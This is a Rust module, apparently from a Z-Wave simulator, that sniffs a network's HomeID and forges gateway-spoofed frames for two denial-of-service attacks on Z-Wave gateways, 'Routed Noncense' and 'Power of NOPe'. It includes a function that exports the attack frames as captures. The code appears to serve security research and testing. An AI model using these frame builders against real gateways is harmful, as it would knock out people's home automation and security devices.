//! Forged frames and scripted attacker behavior.
//!
//! Both attacks reuse unencrypted commands with the source and destination
//! rewritten to the gateway's own address:
//!
//! * **Routed Noncense** sends Nonce Get (S0) or S2 Nonce Get frames that
//!   appear to come from the gateway itself. A vulnerable gateway answers
//!   with a Nonce Report to itself, gets no acknowledgement and keeps
//!   trying to route the report through its repeaters.
//! * **Power of NOPe** sends one Find Nodes In Range frame with a full
//!   32-byte mask. A vulnerable gateway runs the sweep itself and ignores
//!   everything else until it is done.

use std::fmt;
use std::str::FromStr;

use crate::codec::{checksum, CaptureRecord, Command, Frame, HomeId, NodeId, MAX_MASK_LEN, MIN_FRAME_LEN};
use crate::node::{ms, Micros};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AttackKind {
    RoutedNoncenseS0,
    RoutedNoncenseS2,
    PowerOfNope,
}

impl AttackKind {
    pub const ALL: [AttackKind; 3] = [Self::RoutedNoncenseS0, Self::RoutedNoncenseS2, Self::PowerOfNope];

    pub const fn default_interval_ms(self) -> u64 {
        match self {
            Self::RoutedNoncenseS0 | Self::RoutedNoncenseS2 => 100,
            // Just under one default-timed sweep.
            Self::PowerOfNope => 110_000,
        }
    }

    pub const fn config_name(self) -> &'static str {
        match self {
            Self::RoutedNoncenseS0 => "routed_noncense_s0",
            Self::RoutedNoncenseS2 => "routed_noncense_s2",
            Self::PowerOfNope => "power_of_nope",
        }
    }

    pub const fn cli_name(self) -> &'static str {
        match self {
            Self::RoutedNoncenseS0 => "noncense-s0",
            Self::RoutedNoncenseS2 => "noncense-s2",
            Self::PowerOfNope => "power-of-nope",
        }
    }
}

impl fmt::Display for AttackKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.config_name())
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unknown attack kind `{0}`")]
pub struct UnknownAttackKind(pub String);

impl FromStr for AttackKind {
    type Err = UnknownAttackKind;

    /// Accepts both the config spelling (`routed_noncense_s0`) and the CLI
    /// spelling (`noncense-s0`).
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Self::ALL
            .into_iter()
            .find(|kind| s == kind.config_name() || s == kind.cli_name())
            .ok_or_else(|| UnknownAttackKind(s.to_string()))
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NonceVariant {
    S0,
    S2,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackPlan {
    pub kind: AttackKind,
    /// `None` keeps sending until the run ends.
    pub count: Option<u32>,
    pub interval_ms: u64,
    /// Power of NOPe only: fire the next frame as soon as the gateway
    /// announces Command Complete.
    pub use_command_complete_timing: bool,
    pub spoof_src: NodeId,
    pub target_dst: NodeId,
    /// Earliest time of the first frame; the attacker also has to have
    /// sniffed the HomeID by then.
    pub start_ms: u64,
}

impl AttackPlan {
    pub fn new(kind: AttackKind) -> Self {
        Self {
            kind,
            count: Some(1),
            interval_ms: kind.default_interval_ms(),
            use_command_complete_timing: false,
            spoof_src: NodeId::GATEWAY,
            target_dst: NodeId::GATEWAY,
            start_ms: 0,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AttackError {
    #[error("no frame with a valid checksum was observed")]
    NoValidFrame,
}

/// HomeID of the first frame in `stream` whose checksum validates.
pub fn sniff_home_id<I, B>(stream: I) -> Result<HomeId, AttackError>
where
    I: IntoIterator<Item = B>,
    B: AsRef<[u8]>,
{
    stream
        .into_iter()
        .find_map(|bytes| {
            let bytes = bytes.as_ref();
            let (&last, body) = bytes.split_last()?;
            (bytes.len() >= MIN_FRAME_LEN && checksum(body) == last)
                .then(|| HomeId::from_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]))
        })
        .ok_or(AttackError::NoValidFrame)
}

fn forged(home: HomeId, src: NodeId, dst: NodeId, command: Command) -> Frame {
    Frame::singlecast(home, src, dst, command)
}

/// Self-addressed nonce request (`src = dst = 1`).
pub fn build_routed_noncense_frame(home: HomeId, variant: NonceVariant, seq: u8) -> Frame {
    let command = match variant {
        NonceVariant::S0 => Command::NonceGet,
        NonceVariant::S2 => Command::S2NonceGet { seq },
    };
    forged(home, NodeId::GATEWAY, NodeId::GATEWAY, command)
}

/// Self-addressed Find Nodes In Range with every mask bit set.
pub fn build_power_of_nope_frame(home: HomeId) -> Frame {
    forged(
        home,
        NodeId::GATEWAY,
        NodeId::GATEWAY,
        Command::FindNodesInRange {
            mask: vec![0xFF; MAX_MASK_LEN],
        },
    )
}

/// A frame the attacker is about to put on air, with the time of the shot
/// after it (if the plan already knows it).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Shot {
    pub frame: Frame,
    pub next_at: Option<Micros>,
}

/// Attacker state machine driven by the simulator clock.
#[derive(Debug, Clone)]
pub struct Attacker {
    plan: AttackPlan,
    home: Option<HomeId>,
    sent: u32,
    s2_seq: u8,
    awaiting_complete: bool,
}

impl Attacker {
    pub fn new(plan: AttackPlan) -> Self {
        Self {
            plan,
            home: None,
            sent: 0,
            s2_seq: 0,
            awaiting_complete: false,
        }
    }

    pub fn plan(&self) -> &AttackPlan {
        &self.plan
    }

    pub fn home_id(&self) -> Option<HomeId> {
        self.home
    }

    pub fn sent(&self) -> u32 {
        self.sent
    }

    fn exhausted(&self) -> bool {
        self.plan.count.is_some_and(|count| self.sent >= count)
    }

    fn waits_for_complete(&self) -> bool {
        self.plan.kind == AttackKind::PowerOfNope && self.plan.use_command_complete_timing
    }

    /// Feeds one overheard MPDU. Returns the time of a shot this
    /// observation makes due.
    pub fn observe(&mut self, bytes: &[u8], now: Micros) -> Option<Micros> {
        if self.home.is_none() {
            let home = sniff_home_id([bytes]).ok()?;
            self.home = Some(home);
            return (!self.exhausted()).then(|| now.max(ms(self.plan.start_ms)));
        }
        if !self.awaiting_complete {
            return None;
        }
        let frame = Frame::decode(bytes).ok()?;
        if frame.command == Command::CommandComplete && frame.src == self.plan.target_dst {
            self.awaiting_complete = false;
            return (!self.exhausted()).then_some(now);
        }
        None
    }

    fn next_command(&mut self) -> Command {
        match self.plan.kind {
            AttackKind::RoutedNoncenseS0 => Command::NonceGet,
            AttackKind::RoutedNoncenseS2 => {
                let seq = self.s2_seq;
                self.s2_seq = self.s2_seq.wrapping_add(1);
                Command::S2NonceGet { seq }
            }
            AttackKind::PowerOfNope => Command::FindNodesInRange {
                mask: vec![0xFF; MAX_MASK_LEN],
            },
        }
    }

    /// Produces the frame for a shot due at `now`.
    pub fn fire(&mut self, now: Micros) -> Option<Shot> {
        let home = self.home?;
        if self.exhausted() {
            return None;
        }
        let command = self.next_command();
        let frame = forged(home, self.plan.spoof_src, self.plan.target_dst, command);
        self.sent += 1;
        let next_at = if self.exhausted() {
            None
        } else if self.waits_for_complete() {
            self.awaiting_complete = true;
            None
        } else {
            Some(now + ms(self.plan.interval_ms))
        };
        Some(Shot { frame, next_at })
    }
}

/// Attack frames with synthetic timestamps, one every `interval_ms`
/// starting at zero, for export without a simulation.
pub fn craft(kind: AttackKind, home: HomeId, count: u32, interval_ms: u64) -> Vec<CaptureRecord> {
    let mut attacker = Attacker::new(AttackPlan {
        count: Some(count),
        ..AttackPlan::new(kind)
    });
    attacker.home = Some(home);
    (0..count as u64)
        .map_while(|i| {
            let t_us = i * ms(interval_ms);
            attacker.fire(t_us).map(|shot| CaptureRecord { t_us, frame: shot.frame })
        })
        .collect()
}
